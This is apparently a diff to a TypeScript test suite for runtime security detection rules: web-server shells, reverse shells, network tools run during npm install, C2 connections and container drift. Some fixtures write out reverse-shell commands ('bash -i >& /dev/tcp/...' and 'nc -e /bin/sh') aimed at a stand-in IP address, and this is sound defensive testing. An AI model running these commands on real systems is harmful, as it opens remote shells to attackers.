@@ -8,8 +8,10 @@ import {
   accepts,
   calls,
   connects,
+  connectsByUdp,
   connectsTo,
   creates,
+  createsProgram,
   empties,
   linksHard,
   linksSoftly,
@@ -31,6 +33,8 @@ import {
 export interface RuleCase {
   readonly fires: readonly Scene[];
   readonly stays?: readonly Scene[];
+  /** A file that is loaded after ours, for a rule that waits for a list or macro of yours. */
+  readonly local?: string;
 }
 
 const HOST: Actor = {};
@@ -45,6 +49,11 @@ const scene = (by: Actor, ...does: readonly (Act | readonly Act[])[]): Scene => 
 const run = (by: Actor, command: string, facts: ProgramFacts = {}): Scene =>
   scene(by, runs(command.split(' '), facts));
 const runArgs = (by: Actor, ...command: readonly string[]): Scene => scene(by, runs(command));
+
+const macro = (name: string, condition: string): string =>
+  `- macro: ${name}\n  condition: (${condition})\n`;
+const list = (name: string, ...items: readonly string[]): string =>
+  `- list: ${name}\n  items: [${items.map((item) => `'${item}'`).join(', ')}]\n`;
 
 const ADA: Actor = { uid: 1000, loginuid: 1000, tty: 34817 };
 const MEMFD = 4;
@@ -587,6 +596,90 @@ export const OUR_RULE_CASES: Readonly<Record<string, RuleCase>> = {
     fires: [scene({ ...POD, name: 'cat' }, connects('203.0.113.7', 443)), scene({ name: 'tee' }, accepts(8080))],
     stays: [scene({ ...POD, name: 'curl' }, connects('203.0.113.7', 443)), scene({ name: 'cat' }, connects('10.0.0.9', 443))],
   },
+
+  // those that wait
+  'Web Server Spawned Shell': {
+    fires: [run({ where: 'pod', parents: ['httpd'] }, 'sh -c id'), run({ parents: ['gunicorn'] }, 'bash')],
+    stays: [run({ parents: ['httpd'] }, 'sh -c rotatelogs /var/log/x'), run({ where: 'pod', parents: ['nginx'] }, 'ls'), run(POD, 'sh -c id')],
+  },
+  'Reverse Shell from Web Server': {
+    fires: [
+      runArgs({ where: 'pod', parents: ['sh', 'httpd'] }, 'bash', '-c', 'bash -i >& /dev/tcp/203.0.113.7/4443 0>&1'),
+      runArgs({ parents: ['php-fpm'] }, 'python3', '-c', 'import socket'),
+      run({ parents: ['nginx'] }, 'nc -e /bin/sh 203.0.113.7 1'),
+    ],
+    stays: [runArgs(POD, 'bash', '-c', 'bash -i >& /dev/tcp/203.0.113.7/4443'), run({ parents: ['nginx'] }, 'sh -c id')],
+  },
+  'Network Tool Executed During NPM Package Install': {
+    fires: [run({ where: 'pod', parents: ['sh', 'npm'] }, 'nc 203.0.113.7 1'), run({ where: 'pod', parents: ['sh', 'node', 'yarn'] }, 'curl x')],
+    stays: [run({ parents: ['npm'] }, 'nc x 1'), run({ where: 'pod', parents: ['npm'] }, 'tar xf x'), run(POD, 'nmap x')],
+  },
+  'Program run with disallowed http proxy env': {
+    fires: [run(HOST, 'curl x', { env: ['http_proxy=http://203.0.113.7:1'] }), run(POD, 'wget x', { env: ['HTTP_PROXY=http://203.0.113.7'] })],
+    stays: [run(HOST, 'curl x', { env: ['NO_PROXY=x'] }), run(HOST, 'ls', { env: ['HTTP_PROXY=x'] })],
+  },
+  'Launch Disallowed Container': {
+    local: macro('allowed_containers', 'container.image.repository in (docker.io/acme/agent)'),
+    fires: [run({ ...POD, vpid: 1 }, 'httpd')],
+    stays: [run({ where: 'privileged', vpid: 1 }, 'agent'), run({ ...POD, vpid: 7 }, 'httpd'), run({ vpid: 1 }, 'httpd')],
+  },
+  'Container Run as Root User': {
+    fires: [run({ ...POD, vpid: 1 }, 'httpd')],
+    stays: [run({ ...POD, vpid: 1, uid: 33 }, 'httpd'), run(POD, 'sh'), run({ vpid: 1 }, 'systemd')],
+  },
+  'Container Drift Detected (chmod)': {
+    fires: [scene(POD, setsMode('/tmp/x', 0o755)), scene(POD, setsMode('/tmp/x', 0o645))],
+    stays: [scene(POD, setsMode('/tmp/x', 0o644)), scene(HOST, setsMode('/tmp/x', 0o755)), scene(BUILD, setsMode('/tmp/x', 0o755))],
+  },
+  'Container Drift Detected (open+create)': {
+    fires: [scene(POD, createsProgram('/tmp/x'))],
+    stays: [scene(POD, creates('/tmp/x')), scene(HOST, createsProgram('/tmp/x'))],
+  },
+  'Read Shell Configuration File': {
+    fires: [scene({ name: 'cat' }, reads('/root/.bashrc')), scene({ name: 'python3' }, reads('/etc/profile.d/x.sh'))],
+    stays: [scene(HOST, reads('/root/.bashrc')), scene({ name: 'cat' }, writes('/root/.bashrc'))],
+  },
+  'Interpreted procs inbound network activity': {
+    fires: [scene({ name: 'python3' }, accepts(8080))],
+    stays: [scene({ name: 'nginx' }, accepts(8080)), scene({ name: 'python3' }, connects('203.0.113.7', 80))],
+  },
+  'Interpreted procs outbound network activity': {
+    fires: [scene({ name: 'perl' }, connects('203.0.113.7', 80))],
+    stays: [scene({ name: 'perl' }, connects('10.0.0.9', 80)), scene({ name: 'curl' }, connects('203.0.113.7', 80))],
+  },
+  'Unexpected UDP Traffic': {
+    fires: [scene(HOST, connectsByUdp('203.0.113.7', 4000))],
+    stays: [scene(HOST, connectsByUdp('203.0.113.7', 53)), scene(HOST, connects('203.0.113.7', 4000))],
+  },
+  'Unexpected inbound connection source': {
+    fires: [scene(HOST, accepts(8080))],
+    stays: [scene(HOST, connects('203.0.113.7', 80))],
+  },
+  'Unexpected outbound connection destination': {
+    local: list('allowed_outbound_destination_networks', '"203.0.113.0/24"'),
+    fires: [scene(HOST, connects('198.51.100.7', 80))],
+    stays: [scene(HOST, connects('203.0.113.7', 80)), scene(HOST, accepts(8080))],
+  },
+  'Disallowed SSH Connection': {
+    local: macro('allowed_ssh_hosts', 'fd.snet = "10.0.0.0/8"'),
+    fires: [scene(HOST, connects('203.0.113.7', 22))],
+    stays: [scene(HOST, connects('10.0.0.9', 22)), scene(HOST, connects('203.0.113.7', 443))],
+  },
+  'Outbound Connection to C2 Servers': {
+    local: list('c2_server_ip_list', '"203.0.113.7"'),
+    fires: [scene(HOST, connects('203.0.113.7', 443))],
+    stays: [scene(HOST, connects('203.0.113.8', 443))],
+  },
+  'Network Connection outside Local Subnet': {
+    local: list('namespace_scope_network_only_subnet', 'team-blue'),
+    fires: [scene(POD, connects('203.0.113.7', 443))],
+    stays: [scene(POD, connects('10.0.0.9', 443)), scene(HOST, connects('203.0.113.7', 443))],
+  },
+  'Outbound or Inbound Traffic not to Authorized Server Process and Port': {
+    local: list('allowed_image', 'docker.io/library/httpd') + list('authorized_server_binary', 'httpd') + list('authorized_server_port', '80', '5432'),
+    fires: [scene(POD, accepts(4444))],
+    stays: [scene({ ...POD, name: 'httpd' }, accepts(80)), scene({ where: 'privileged' }, accepts(4444)), scene(HOST, accepts(4444))],
+  },
 };
 
 /** What any program does all day; the last one starts another. */
@@ -615,4 +708,6 @@ export const ABOUT_ANY_PROGRAM: ReadonlySet<string> = new Set([
   'Launch Sensitive Mount Container',
   'Launch Privileged Container',
   'Launch Excessively Capable Container',
+  'Launch Disallowed Container',
+  'Container Run as Root User',
 ]);
